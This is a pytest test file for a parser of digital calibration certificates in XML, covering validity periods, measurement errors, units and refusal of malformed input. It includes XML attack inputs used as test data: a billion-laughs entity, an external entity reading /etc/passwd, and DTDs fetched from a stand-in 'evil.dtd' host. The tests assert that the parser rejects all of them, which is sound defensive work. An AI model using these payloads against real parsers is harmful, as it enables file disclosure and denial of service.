"""Digital calibration certificates: what is read of them, and what is refused."""

import datetime as dt
import hashlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway import xml_tree
from gateway.certificates import Period
from gateway.dsi import ucum
from gateway.times import nanoseconds
from tests.dcc_writing import (
    NEXT,
    PASSED,
    SERIAL,
    SHANGHAI,
    dcc,
    element,
    expanded_21,
    good,
    item,
    named,
    quantity,
    read,
    result,
    statement,
    table,
    values,
)


def test_a_certificate_says_who_when_and_until_when():
    text = dcc(statements=NEXT + PASSED)
    document, warnings = good(text, zone=SHANGHAI)
    assert warnings == []
    assert document.number == "JL-2026-0815"
    assert document.verified_at == nanoseconds("2026-03-03T00:00:00+08:00")
    assert document.issued_at == nanoseconds("2026-03-05T00:00:00+08:00")
    assert document.valid_until == nanoseconds("2026-09-02T23:59:59+08:00")
    assert (document.laboratory, document.result) == ("市计量检测院 (L-4711)", "pass")
    assert document.source == {
        "file": "c.xml",
        "sha256": hashlib.sha256(text.encode()).hexdigest(),
        "schema_version": "3.2.1",
        "signed": False,
    }
    (one,) = document.items
    assert (one.manufacturer, one.model, one.name) == ("ACME Pumps", "F2", "Fuel dispenser")
    assert [(each.issuer, each.value) for each in one.identifications] == list(SERIAL)


def test_the_errors_of_indication_come_point_by_point_with_their_flow_rate():
    ((one,), first) = good(dcc())[0].items, good(dcc())[0].items[0].errors[0]
    assert len(one.errors) == 3
    assert first == {
        "flow_rate": {"value": 5.1, "unit": "L/min"},
        "reference_value": {"value": 19.972, "unit": "L"},
        "measured_value": {"value": 19.99, "unit": "L"},
        "error": {"value": 0.09, "unit": "%", "uncertainty": 0.06, "coverage_factor": 2.0},
        "maximum_permissible_error": {"value": 0.3, "unit": "%"},
    }
    assert [point["error"]["value"] for point in one.errors] == [0.09, 0.04, -0.07]


def real(value, unit, *more):
    return element("si:real", element("si:value", value), element("si:unit", unit), *more)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            real("0.4", r"\percent", element(
                "si:expandedUnc", element("si:uncertainty", "0.1"),
                element("si:coverageFactor", "2"), element("si:coverageProbability", "0.95"))),
            {"value": 0.4, "unit": "%", "uncertainty": 0.1, "coverage_factor": 2.0},
        ),
        (
            real("0.4", r"\percent", element(
                "si:measurementUncertaintyUnivariate", element(
                    "si:standardMU", element("si:valueStandardMU", "0.05")))),
            {"value": 0.4, "unit": "%", "uncertainty": 0.05, "coverage_factor": 1.0},
        ),
        (
            element("si:hybrid", values("0.4", r"\percent", expanded_21("0.1", "1.96")),
                    values("0.004", r"\one")),
            {"value": 0.4, "unit": "%", "uncertainty": 0.1, "coverage_factor": 1.96},
        ),
        (
            element("si:list", element(
                "si:realList", element("si:listUnit", r"\percent"),
                element("si:listUnivariateUnc", element(
                    "si:expandedUnc", element("si:uncertainty", "0.2"),
                    element("si:coverageFactor", "2"))),
                element("si:real", element("si:value", "0.4")))),
            {"value": 0.4, "unit": "%", "uncertainty": 0.2, "coverage_factor": 2.0},
        ),
        (element("si:constant", element("si:value", "4e-1"), element("si:unit", r"\one")),
         {"value": 0.4, "unit": "1"}),
    ],
)  # fmt: skip
def test_a_quantity_may_be_written_in_every_form_of_the_d_si(content, expected):
    results = result(table(quantity("basic_measurementError", content)))
    ((point,),) = (one.errors for one in good(dcc(results=results))[0].items)
    assert point == {"error": expected}


def test_quantities_may_stand_without_a_table_and_be_named_by_their_words_alone():
    plain = element("dcc:quantity", named("dcc:name", "示值误差", "zh"), real("1.5", r"\percent"))
    other = element("dcc:quantity", named("dcc:name", "Speed"), real("60", r"\kilo\metre\per\hour"))
    ((point,),) = (one.errors for one in good(dcc(results=result(plain, other)))[0].items)
    assert point == {
        "error": {"value": 1.5, "unit": "%"},
        "speed": {"value": 60.0, "unit": "km/h"},
    }


def test_a_table_without_an_error_and_texts_are_left_out():
    results = result(
        table(quantity("basic_referenceValue", values("1 2", r"\litre"))),
        table(quantity("basic_measurementError", element("dcc:noQuantity", named("x", "none")))),
    )
    assert good(dcc(results=results))[0].items[0].errors == []


def test_results_are_told_apart_by_the_item_that_they_refer_to():
    items = item(("owner", "fd-1"), identity="a") + item(("owner", "fd-2"), identity="b")
    error = [
        table(quantity("basic_measurementError", values(text, r"\percent"))) for text in ("1", "2")
    ]
    results = result(error[0], refId="a") + result(error[1], refId="b") + result(error[0])
    document, warnings = good(dcc(items=items, results=results))
    assert [[p["error"]["value"] for p in one.errors] for one in document.items] == [[1.0], [2.0]]
    assert len(warnings) == 1
    assert "1 points are of results that do not say" in warnings[0]


@pytest.mark.parametrize(
    ("statements", "options", "until"),
    [
        ("", {}, None),
        ("", {"valid_for": Period.read("P6M")}, "2026-09-02T23:59:59Z"),
        (statement("basic_recalibration", element("dcc:period", "P1Y")), {},
         "2027-03-02T23:59:59Z"),
        (statement("basic_recalibration", element("dcc:date", "2026-08-31+08:00")),
         {"valid_for": Period.read("P9Y")}, "2026-08-31T15:59:59Z"),
        (statement("basic_validityRange", element("dcc:date", "2030-01-01")), {}, None),
    ],
)  # fmt: skip
def test_the_validity_is_the_stated_one_else_the_given_one(statements, options, until):
    document, _ = good(dcc(statements=statements), **options)
    assert document.valid_until == (None if until is None else nanoseconds(until))


@pytest.mark.parametrize(
    ("period", "first", "last"),
    [
        ("P6M", "2026-03-01", "2026-08-31"),
        ("P1Y", "2024-02-29", "2025-02-28"),
        ("P1M", "2026-01-31", "2026-02-28"),
        ("P1Y6M", "2026-12-15", "2028-06-14"),
        ("P90D", "2026-01-01", "2026-03-31"),
        ("P12M", "2026-12-01", "2027-11-30"),
    ],
)
def test_a_period_ends_with_the_day_before_its_first_day_comes_again(period, first, last):
    assert Period.read(period).last_day(dt.date.fromisoformat(first)).isoformat() == last


@pytest.mark.parametrize("text", ["", "P", "6M", "P6W", "P0M", "PT5H", "P-1M", "P6M "])
def test_what_is_no_period_is_refused(text):
    with pytest.raises(ValueError, match="like P6M"):
        Period.read(text)


@pytest.mark.parametrize(
    ("words", "verdict"),
    [
        (["pass"], "pass"), (["conditionalPass"], "pass"), (["pass", "fail"], "fail"),
        (["noPass"], None), (["conditionalFail"], "fail"), ([], None),
    ],
)  # fmt: skip
def test_the_verdict_is_that_of_all_statements(words, verdict):
    statements = "".join(
        statement("basic_conformity", element("dcc:conformity", word)) for word in words
    )
    assert good(dcc(statements=statements))[0].result == verdict


def test_without_a_statement_the_points_together_are_the_verdict():
    def judged(words):
        meta = element(
            "dcc:measurementMetaData",
            element(
                "dcc:metaData", element("dcc:conformityXMLList", words), refType="basic_conformity"
            ),
        )
        content = values("0.1 0.2", r"\percent") + meta
        return good(dcc(results=result(table(quantity("basic_measurementError", content)))))

    assert judged("pass pass")[0].result == "pass"
    assert judged("pass fail")[0].result == "fail"


def test_a_signature_is_told_not_checked():
    tail = "<ds:Signature xmlns:ds='http://www.w3.org/2000/09/xmldsig#'>x</ds:Signature>"
    assert good(dcc(tail=tail))[0].source["signed"] is True


def with_error(content):
    return dcc(results=result(table(quantity("basic_measurementError", content))))


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (b"", "not XML"),
        (b"no xml", "not XML"),
        (b"<a>", "not XML"),
        (b"<a/><b/>", "not XML"),
        (b"<?xml version='1.0' encoding='klingon'?><a/>", "not XML"),
        (b"\xff\xfe\x00", "not XML"),
        ("<a/>", "no DCC: the root is 'a'"),
        (dcc().replace("ptb.de/dcc", "ptb.de/dcc2"), "no DCC"),
        (dcc(version="2.4.0"), "schemaVersion is '2.4.0'; read are those of 3.x"),
        (dcc(number=""), "uniqueIdentifier is missing"),
        (dcc(number="x" * 300), "uniqueIdentifier must be at most 256 printable"),
        (dcc(end="2026-02-30"), "endPerformanceDate: '2026-02-30' is no date"),
        (dcc(end="1500-01-01"), "no date of 1900 to 2200"),
        (dcc(begin="2026-03-04"), "endPerformanceDate is before beginPerformanceDate"),
        (dcc(begin="", end=""), "endPerformanceDate is missing"),
        (dcc(items=""), "items has no item"),
        (dcc(items=item(("owner", ""))), "value is missing"),
        (dcc(statements=statement("basic_recalibration", element("dcc:period", "PT4H"))),
         "period: 'PT4H' is no period"),
        (dcc(statements=statement("basic_recalibration", element("dcc:period", "P999Y"))),
         "period: "),
        (with_error(values("1 x", r"\one")), "'x' is no number"),
        (with_error(values("NaN", r"\one")), "no finite number"),
        (with_error(values("1 2 3", r"\one \one")), "3 values and 2 units"),
        (with_error(values("1 " * 1001, r"\one")), "1001 values, at most 1000"),
        (with_error(real("1", "")), "the unit is missing"),
    ],
)  # fmt: skip
def test_what_is_no_certificate_is_refused_with_its_line(text, why):
    _, faults, _ = read(text)
    assert why in "\n".join(faults)
    assert all(fault.startswith("c.xml:") and fault.split(":")[1].isdigit() for fault in faults)


def test_every_fault_of_a_certificate_is_told_at_once():
    _, faults, _ = read(dcc(number="", begin="x", issued="y", items=""))
    assert len(faults) == 4


DOCTYPES = {
    "billion laughs": "<!DOCTYPE d [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]>",
    "a file": "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "the network": "<!DOCTYPE d SYSTEM 'http://192.0.2.1/evil.dtd'>",
    "parameters": "<!DOCTYPE d [<!ENTITY % p SYSTEM 'http://192.0.2.1/p'> %p;]>",
}


@pytest.mark.parametrize("attack", DOCTYPES)
def test_entities_and_outside_documents_are_refused(attack):
    _, faults, _ = read(dcc(head=DOCTYPES[attack], number="&b;"))
    assert faults == ["c.xml:1: a document type is not allowed: it could define entities"]


def test_depth_number_and_size_are_bounded():
    depth = xml_tree.MAX_DEPTH
    xml_tree.parse(b"<a>" * depth + b"</a>" * depth)
    for data, why in (
        (b"<a>" * 10**6, "nested deeper than 64"),
        (b"<a>" + b"<b/>" * xml_tree.MAX_ELEMENTS + b"</a>", "more than 200,000 elements"),
        (b"<a>" + b" " * xml_tree.MAX_BYTES, "bytes, at most"),
    ):
        with pytest.raises(xml_tree.XmlError, match=why):
            xml_tree.parse(data)


@given(st.binary(max_size=300))
def test_any_bytes_are_a_certificate_or_refused(data):
    read(data)


SPECIMEN = dcc(statements=NEXT + PASSED).encode()


@settings(max_examples=120)
@given(st.lists(st.tuples(st.integers(0, len(SPECIMEN) - 1), st.integers(0, 255)), max_size=8),
       st.integers(0, len(SPECIMEN)))  # fmt: skip
def test_a_spoilt_certificate_is_read_or_refused(changes, cut):
    spoilt = bytearray(SPECIMEN)
    for at, byte in changes:
        spoilt[at] = byte
    read(bytes(spoilt))
    read(bytes(spoilt[:cut]))


@pytest.mark.parametrize(
    ("unit", "code"),
    [
        (r"\metre\tothe{3}\hour\tothe{-1}", "m3/h"), (r"\metre\tothe{3}\per\hour", "m3/h"),
        (r"\kilo\watt\hour", "kWh"), (r"\kilogram\metre\tothe{-3}", "kg/m3"),
        (r"\litre\tothe{-1}", "1/L"), (r"\milli\litre", "mL"), (r"\degreecelsius", "Cel"),
        (r"\one", "1"), (r"\furlong", r"\furlong"), (r"\kilo", r"\kilo"),
        (r"\kilo\milli\metre", r"\kilo\milli\metre"), ("|cup", "|cup"),
    ],
)  # fmt: skip
def test_units_of_the_d_si_are_ucum_codes_where_there_is_one(unit, code):
    assert ucum(unit) == code


# From the certificate to the device.
